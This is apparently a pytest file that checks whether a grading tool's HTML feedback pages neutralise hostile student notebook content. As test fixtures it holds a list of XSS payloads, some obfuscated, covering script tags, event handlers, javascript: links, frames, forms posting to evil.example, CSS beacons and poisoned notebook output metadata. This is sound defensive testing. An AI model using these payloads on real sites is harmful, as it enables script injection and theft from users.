"""Feedback pages (issue 14): nothing a student wrote or printed runs or acts in the browser of whoever opens the
page, and an honest notebook's page keeps its headings, tables, images and math.

Each page is made the way `make grade` makes it (`grading.grade._write_feedback`), once per module, and read back
with html.parser. Every hostile vector carries its own token; a token may end up as visible text, never in an
attribute, a script, a style sheet or an element that acts (frames, forms, plugins, base, meta refresh).
tests/browser/test_feedback_page.py opens both pages in Chromium (the policy, MathJax, console errors).
"""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest

from grading.feedback import CSP, MATHJAX_CONFIG, MATHJAX_URL
from grading.grade import GradingOptions, _write_feedback
from grading.labsource import LabSource

LAB = LabSource("lab99", Path("."), {"lab99": None}, {"lab99:t1": 2.0})
RUN = {"kernel": "ok", "error": "", "cells": {}, "flags": []}
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="  # 1x1

# HTML a student can put in a markdown cell or print as text/html or text/markdown; {t} is the vector's token
VECTORS = {
    "script": "<script>alert('{t}')</script>",
    "onerror": "<img src=x onerror=\"alert('{t}')\">",
    "javascript-link": "<a href=\"javascript:alert('{t}')\">link</a>",
    "javascript-link-entities": "<a href=\" JaVa&#x09;ScRiPt&colon;alert('{t}')\">link</a>",
    "markdown-javascript-link": "[link](javascript:alert('{t}'))",
    "iframe": "<iframe src=\"https://evil.example/{t}\"></iframe>",
    "iframe-srcdoc": "<iframe srcdoc=\"<script>alert('{t}')</script>\"></iframe>",
    "meta-refresh": "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/{t}\">",
    "svg-script": "<svg onload=\"alert('{t}')\"><script>alert('{t}')</script></svg>",
    "form": "<form action=\"https://evil.example/{t}\" method=\"post\"><input name=\"pw\">"
            "<button formaction=\"https://evil.example/{t}\">send</button></form>",
    "object-embed": "<object data=\"https://evil.example/{t}\"></object><embed src=\"https://evil.example/{t}\">",
    "base": "<base href=\"https://evil.example/{t}/\">",
    "stylesheet": "<link rel=\"stylesheet\" href=\"https://evil.example/{t}.css\">"
                  "<style>@import url(https://evil.example/{t}.css);</style>",
    "css-url": "<div style=\"background-image: url(https://evil.example/{t}); cursor: url(https://evil.example/{t})\">"
               "x</div>",
    "data-url-link": "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{t}\">x</a>",
    "remote-image": "<img src=\"https://evil.example/{t}.png\">",
    "handler-on-allowed-tag": "<details open ontoggle=\"alert('{t}')\"><summary>s</summary></details>",
    "mathml-href": "<math><mi xlink:href=\"javascript:alert('{t}')\">m</mi></math>",
    "mathjax-config": "<script type=\"text/x-mathjax-config\">alert('{t}')</script>",
    "noscript-mutation": "<noscript><p title=\"</noscript><img src=x onerror=alert('{t}')>\"></noscript>",
    "page-layout-class": "<div class=\"jp-Dialog {t}\">lab04: 13 / 13</div><h1 id=\"jp-main-dock-panel-{t}\">x</h1>",
    "tex-href": "$\\href{{javascript:alert('{t}')}}{{tex link}}$",  # MathJax's Safe extension: in the browser check
}
CHANNELS = ("markdown", "html", "markdown-output")
# outputs only code can make: (token, output)
_O = nbformat.v4.new_output
OUTPUT_VECTORS = {
    "javascript-output": _O("display_data", data={"application/javascript": "alert('JSOUT')",
                                                  "text/plain": "<IPython.core.display.Javascript object>"}),
    "widget-output": _O("display_data", data={"application/vnd.jupyter.widget-view+json": {
        "model_id": "m1", "version_major": 2, "version_minor": 0, "x": "</script><script>alert('WIDGET')</script>"},
        "text/plain": "IntSlider()"}),
    "svg-output": _O("display_data", data={"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' "
                                           "onload=\"alert('SVGOUT')\"><script>alert('SVGOUT')</script></svg>"}),
    "png-size-metadata": _O("display_data", data={"image/png": PNG}, metadata={"image/png": {
        "width": "1 onerror=alert('PNGSIZE')", "height": "1 onload=alert('PNGSIZE')"}}),
    "png-filename-metadata": _O("display_data", data={"image/png": PNG},
                                metadata={"filenames": {"image/png": "javascript:alert('PNGFILE')"}}),
    "jpeg-remote-filename": _O("display_data", data={"image/jpeg": PNG},
                               metadata={"filenames": {"image/jpeg": "https://evil.example/JPEGFILE.jpg"}}),
    "mermaid-output": _O("display_data", data={"text/vnd.mermaid": "graph TD\n</pre><script>alert('MERMAID')"
                                               "</script>"}),
    "latex-output": _O("display_data", data={"text/latex": "$x$ </div><script>alert('LATEX')</script>"}),
    "stream": _O("stream", name="stdout", text="</pre><script>alert('STREAM')</script>"),
    "error": _O("error", ename="E", evalue="<script>alert('ERROR')</script>",
                traceback=["</pre><img src=x onerror=alert('ERROR')>"]),
}
OUTPUT_TOKENS = {"javascript-output": "JSOUT", "widget-output": "WIDGET", "svg-output": "SVGOUT",
                 "png-size-metadata": "PNGSIZE", "png-filename-metadata": "PNGFILE",
                 "jpeg-remote-filename": "JPEGFILE", "mermaid-output": "MERMAID", "latex-output": "LATEX",
                 "stream": "STREAM", "error": "ERROR"}

# elements a page may hold only where the template put them (none of them from the student)
ACTING = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button", "select",
          "textarea", "base", "link", "meta", "svg", "math", "style", "noscript", "template"}


def _token(vector: str, channel: str) -> str:
    return f"XSS{sorted(VECTORS).index(vector):02d}{channel.replace('-', '')}"


class Page(HTMLParser):
    """Where things are in a page: elements (tag, attrs) in order, and the text inside each script and style."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.raw: list[tuple[str, str]] = []  # (script | style, its text)
        self.text: list[str] = []
        self._open: str | None = None
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {k: v or "" for k, v in attrs}))
        if tag in ("script", "style"):
            self._open = tag
            self.raw.append((tag, ""))

    def handle_endtag(self, tag):
        if tag == self._open:
            self._open = None

    def handle_data(self, data):
        if self._open:
            self.raw[-1] = (self.raw[-1][0], self.raw[-1][1] + data)
        else:
            self.text.append(data)

    def acting_places(self) -> list[str]:
        """Every attribute value, script, style sheet and acting element: where a token must never be."""
        places = [f"<{tag} {name}={value!r}>" for tag, attrs in self.elements for name, value in attrs.items()]
        places += [f"<{tag}>{body}" for tag, body in self.raw]
        return places


def _page(nb: nbformat.NotebookNode, tmp: Path) -> str:
    nb.metadata["language_info"] = {"name": "python", "pygments_lexer": "ipython3"}
    path = tmp / "lab99.html"
    _write_feedback(path, nb, LAB, RUN, GradingOptions())
    return path.read_text(encoding="utf-8")


def hostile_notebook() -> nbformat.NotebookNode:
    """Every vector in a markdown cell, a text/html output and a text/markdown output, and each output-only vector.
    (A raw cell a student adds reaches the feedback notebook as a markdown cell: grading.grade.run_notebook.)"""
    cells = []
    for vector, html in VECTORS.items():
        code = nbformat.v4.new_code_cell(f"# {vector}")
        code.outputs = [
            _O("display_data", data={"text/html": html.format(t=_token(vector, "html")), "text/plain": "h"}),
            _O("display_data", data={"text/markdown": html.format(t=_token(vector, "markdown-output")),
                                     "text/plain": "m"})]
        cells += [nbformat.v4.new_markdown_cell(f"## {vector}\n\n{html.format(t=_token(vector, 'markdown'))}\n"),
                  code]
    code = nbformat.v4.new_code_cell("# outputs")
    code.outputs = list(OUTPUT_VECTORS.values())
    nb = nbformat.v4.new_notebook(cells=[*cells, code])
    # with widget state for its model the lab template would render the widget view (and a script for it)
    state = {"version_major": 2, "version_minor": 0, "state": {"m1": {}}}
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    return nb


def honest_notebook() -> nbformat.NotebookNode:
    """What an honest student's notebook shows: markdown with math, a table, a list, code, a link, details and an
    embedded image; a pandas DataFrame, a plot (png), an SVG, IPython Markdown and LaTeX, a print, an error."""
    import pandas as pd

    md = ("# Attention by hand\n\nThe scores are *scaled*, **not** clipped: `softmax(QK^T / sqrt(d_k))`, see "
          "[PyTorch](https://pytorch.org/docs/stable/).\n\n- one query\n- two keys\n\n1. first\n2. second\n\n"
          "| rank | loss |\n|---|---|\n| 4 | 1.23 |\n\nInline $\\frac{QK^\\top}{\\sqrt{d_k}}$ and $a<b$, and\n\n"
          "$$\\mathrm{softmax}(x)_i = \\frac{e^{x_i}}{\\sum_j e^{x_j}}$$\n\n```python\nx = 1\n```\n\n"
          "<details><summary>Why scale?</summary>\n\nThe variance grows with $d_k$.\n</details>\n\n"
          f"![a pixel](data:image/png;base64,{PNG})\n\n## Results\n\n> measured, not opined\n")
    frame = pd.DataFrame({"rank": [4, 8], "loss": [1.23, 1.01]})
    code = nbformat.v4.new_code_cell("frame")
    code.outputs = [
        _O("execute_result", data={"text/html": frame._repr_html_(), "text/plain": repr(frame)}, execution_count=1),
        _O("display_data", data={"image/png": PNG, "text/plain": "<Figure>"}),
        _O("display_data", data={"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10'>"
                                                  "<circle cx='5' cy='5' r='4'/></svg>"}),
        _O("display_data", data={"text/markdown": "### Held-out loss\n\n$L = -\\log p$", "text/plain": "md"}),
        _O("display_data", data={"text/latex": "$$\\alpha = 16$$", "text/plain": "alpha"}),
        _O("stream", name="stdout", text="loss 1.01 < 1.23\n"),
        _O("error", ename="AssertionError", evalue="shape (2, 3) != (3, 2)",
           traceback=["AssertionError: shape (2, 3) != (3, 2)"]),
    ]
    return nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(md), code])


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Page:
    return Page(_page(hostile_notebook(), tmp_path_factory.mktemp("hostile")))


@pytest.fixture(scope="module")
def honest(tmp_path_factory) -> tuple[str, Page]:
    html = _page(honest_notebook(), tmp_path_factory.mktemp("honest"))
    return html, Page(html)


@pytest.mark.parametrize("channel", CHANNELS)
@pytest.mark.parametrize("vector", sorted(VECTORS))
def test_vector_is_inert(hostile, vector, channel):
    token = _token(vector, channel)
    found = [p for p in hostile.acting_places() if token in p]
    assert not found, f"{vector} in a {channel}: still active in the feedback page: {found[:3]}"


@pytest.mark.parametrize("vector", sorted(OUTPUT_VECTORS))
def test_output_vector_is_inert(hostile, vector):
    token = OUTPUT_TOKENS[vector]
    found = [p for p in hostile.acting_places() if token in p and not p.startswith("<img src='data:image/svg+xml")]
    assert not found, f"{vector}: still active in the feedback page: {found[:3]}"


def test_page_runs_only_mathjax_under_a_policy(hostile):
    """The page's only scripts are MathJax and its configuration; no handler, javascript: URL, frame, form, plugin,
    base or remote load anywhere; the Content-Security-Policy comes before any script."""
    scripts = [attrs for tag, attrs in hostile.elements if tag == "script"]
    assert scripts == [{}, {"src": MATHJAX_URL}]
    assert [body for tag, body in hostile.raw if tag == "script"] == [MATHJAX_CONFIG, ""]
    assert not [(t, a) for t, a in hostile.elements for name in a if name.startswith("on")]
    acting = [(t, a) for t, a in hostile.elements if t in ACTING - {"script", "style", "meta"}]
    assert not acting
    metas = [a for t, a in hostile.elements if t == "meta"]
    assert [m.get("http-equiv") for m in metas] == ["Content-Security-Policy", None, None]  # then charset, viewport
    assert metas[0]["content"] == CSP
    first_script = next(i for i, (t, _) in enumerate(hostile.elements) if t == "script")
    assert hostile.elements.index(("meta", metas[0])) < first_script
    assert all(not a.get("style") or "url(" not in a["style"] for _, a in hostile.elements)
    for tag, attrs in hostile.elements:
        for name in ("href", "src", "action", "formaction", "data", "xlink:href", "srcdoc"):
            value = attrs.get(name)
            if value is None:
                continue
            ok = (tag == "script" and value == MATHJAX_URL) or (tag == "img" and value.startswith("data:image/")) \
                or (tag == "a" and value.startswith(("https://", "http://", "mailto:", "#")))
            assert ok, f"<{tag} {name}={value!r}>"
    notes = " ".join(hostile.text)
    assert "[JavaScript output not shown in feedback]" in notes and "[widget output not shown in feedback]" in notes


def test_honest_page_keeps_headings_tables_images_and_math(honest):
    html, page = honest
    tags = [t for t, _ in page.elements]
    text = "".join(page.text)
    assert {"h1", "h2", "h3", "ul", "ol", "li", "table", "thead", "th", "td", "code", "pre", "em", "strong",
            "details", "summary", "blockquote"} <= set(tags)
    assert ("a", {"href": "https://pytorch.org/docs/stable/"}) in page.elements
    # the DataFrame's rows and columns (its <style scoped> goes: the table keeps its cells, not its striping)
    assert ("table", {"border": "1", "class": "dataframe"}) in page.elements
    for cell in ("rank", "loss", "1.23", "1.01"):
        assert f"<td>{cell}</td>" in html or f"<th>{cell}</th>" in html, cell
    assert ".dataframe tbody" not in text
    images = [a["src"] for t, a in page.elements if t == "img"]
    assert sum(src == f"data:image/png;base64,{PNG}" for src in images) == 2  # the markdown's and the plot
    assert any(src.startswith("data:image/svg+xml;base64,") for src in images)
    assert any(t == "div" and "jp-RenderedImage" in a.get("class", "") for t, a in page.elements)  # the plot's frame
    # math stays as TeX in ordinary text, where MathJax (the page's script) typesets it
    for tex in ("$\\frac{QK^\\top}{\\sqrt{d_k}}$", "$a<b$", "$$\\mathrm{softmax}(x)_i", "$d_k$", "$L = -\\log p$",
                "$$\\alpha = 16$$"):
        assert tex in text, tex
    assert ("script", {"src": MATHJAX_URL}) in page.elements
    assert "loss 1.01 < 1.23" in text and "shape (2, 3) != (3, 2)" in text
    assert "Attention by hand" in text and "Held-out loss" in text and "lab99: 0 / 2" in text  # and our header


def test_raw_html_escape_hatches_in_markdown_stay_text():
    """What a student types as text stays text: a code span or block holding HTML is shown, not parsed."""
    from grading.feedback import sanitize

    assert sanitize("<p><code>&lt;script&gt;x&lt;/script&gt;</code></p>") == \
        "<p><code>&lt;script&gt;x&lt;/script&gt;</code></p>"
    assert sanitize("<p>a</p><script>alert(1)</script><style>p {}</style><p>b</p>") == "<p>a</p><p>b</p>"


def test_lab_markdown_loses_nothing():
    """Our own labs' markdown (the instructions a feedback page shows) passes the sanitiser unchanged, as parsed."""
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    from grading.feedback import sanitize
    from grading.labsource import SOLUTIONS

    def shape(html: str) -> list:
        page = Page(html)
        return [page.elements, "".join(page.text).split()]

    seen = 0
    for path in sorted(SOLUTIONS.glob("lab*/lab*.ipynb")):
        for cell in nbformat.read(path, as_version=4).cells:
            if cell.cell_type == "markdown":
                html = markdown2html_mistune(cell.source)
                assert shape(sanitize(html)) == shape(html), (path.name, cell.source[:200])
                seen += 1
    assert seen > 50


def test_html_nested_too_deep_is_shown_as_text():
    """html5lib parses nesting in quadratic time (50 kB of <ul><li> took bleach 17 s) and a markdown cell has no size
    limit: past MAX_DEPTH levels the cell is shown as escaped text instead (honest cells nest 5 levels)."""
    from grading.feedback import MAX_DEPTH, sanitize

    deep = "<ul><li>" * 5000 + "<img src=x onerror=alert(1)>"
    shown = sanitize(deep)
    assert shown.startswith(f"<p>[HTML nested more than {MAX_DEPTH} levels deep: shown as text]</p><pre>&lt;ul&gt;")
    assert "<img" not in shown and "<li>" not in shown
    nested = "<ul><li>" * (MAX_DEPTH // 2) + "x" + "</li></ul>" * (MAX_DEPTH // 2)
    assert sanitize(nested) == nested


def test_outputs_sent_as_lists_or_objects_still_make_a_page(tmp_path):
    """A raw display message may carry text as a list of lines (nbformat's on-disk form) or as an object: the page
    is written all the same (text/markdown as a list raised AttributeError, and the student's row became `error`)."""
    code = nbformat.v4.new_code_cell("publish_display_data(...)")
    code.outputs = [nbformat.from_dict({"output_type": "display_data", "metadata": {}, "data": data}) for data in (
        {"text/markdown": ["# Listed\n", "<script>alert('LIST')</script>"]},
        {"text/html": ["<b>bold</b>", "<img src=x onerror=alert('LIST')>"]},
        {"text/html": {"not": "text"}, "text/plain": "plain"})]
    nb = nbformat.v4.new_notebook()  # (then filled, as grading.grade.run_notebook fills it: nothing validates it)
    nb.cells.append(code)
    page = Page(_page(nb, tmp_path))
    assert "Listed" in "".join(page.text) and "plain" in "".join(page.text)
    assert not [p for p in page.acting_places() if "LIST" in p]


def test_a_notebook_that_cannot_be_rendered_keeps_its_points(tmp_path, monkeypatch):
    # A rendering failure (a bug of ours, a library's, a pathological notebook) once turned the whole row into
    # `error` with 0 points: the page must fall back to the points and a note, and the caller keep the grade.
    import grading.grade

    def broken(nb):
        raise RecursionError("maximum recursion depth exceeded <script>alert(1)</script>")

    monkeypatch.setattr(grading.grade, "render_feedback", broken)
    run = dict(RUN, cells={"lab99:t1": {"kind": "test", "status": "ok", "verdict": "ok"}})
    path = tmp_path / "lab99.html"
    notes = _write_feedback(path, honest_notebook(), LAB, run, GradingOptions())
    page = path.read_text(encoding="utf-8")
    assert "lab99: 2 / 2" in page and "<td>2 / 2</td>" in page
    assert "<script" not in page
    assert len(notes) == 1 and "RecursionError" in notes[0]


def test_pages_rendered_on_several_threads_are_each_students_own():
    """grade_all renders feedback pages on several threads; a bleach Cleaner's parser keeps state while it works,
    so a shared one mixed one student's markup into another's page or failed (hundreds of 1,280 pages, 8 threads).
    Each page sanitized on a crowded thread pool equals the same page sanitized alone."""
    from concurrent.futures import ThreadPoolExecutor

    from grading.feedback import sanitize

    pages = [("<div>" * 30 + f"<p>student {i} <b>bold</b> <table><tr><td>{i}</td></tr></table>"
              + "<ul><li>a</li><li>b</li></ul>" * 20 + "</p>" + "</div>" * 30) for i in range(16)]
    alone = [sanitize(page) for page in pages]
    with ThreadPoolExecutor(8) as pool:
        crowded = list(pool.map(sanitize, pages * 20))
    assert crowded == alone * 20
